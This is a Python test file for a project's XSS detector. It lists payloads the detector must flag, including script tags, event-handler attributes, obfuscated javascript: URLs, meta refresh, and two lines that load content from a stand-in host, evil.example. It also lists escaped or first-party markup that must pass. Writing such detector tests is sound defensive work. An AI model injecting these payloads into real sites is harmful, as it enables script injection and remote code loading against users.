"""The XSS suite's judge catches what it must: each of these would run script in a browser."""

from __future__ import annotations

import lxml.etree
import pytest

from tests.security.inert import assert_inert_xml, html_problems

LIVE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<div style="width:expression(alert(1))">x</div>',
    "<style>body{}</style>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<script src="//evil.example/x.js"></script>',
]

INERT = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="https://example.com/">x</a>',
    '<script type="module" src="/static/ting/site.js"></script>',
    '<script id="d" type="application/json">{"t": "\\u003Cscript\\u003E"}</script>',
    '<iframe src="https://ting.example/embed/track/1"></iframe>',
]


@pytest.mark.parametrize("html", LIVE)
def test_live_markup_is_caught(html: str) -> None:
    assert html_problems(html, fragment=True)


@pytest.mark.parametrize("html", INERT)
def test_escaped_or_own_markup_passes(html: str) -> None:
    assert html_problems(html, fragment=True) == []


def test_feed_html_that_would_run_is_caught() -> None:
    feed = (
        b"<rss><channel><description>&lt;img src=x onerror=alert(1)&gt;</description>"
        b"</channel></rss>"
    )
    with pytest.raises(AssertionError):
        assert_inert_xml(feed, "feed")


def test_a_broken_feed_is_caught() -> None:
    with pytest.raises(lxml.etree.XMLSyntaxError):
        assert_inert_xml(b"<rss><channel><title>a</title></rss>", "feed")
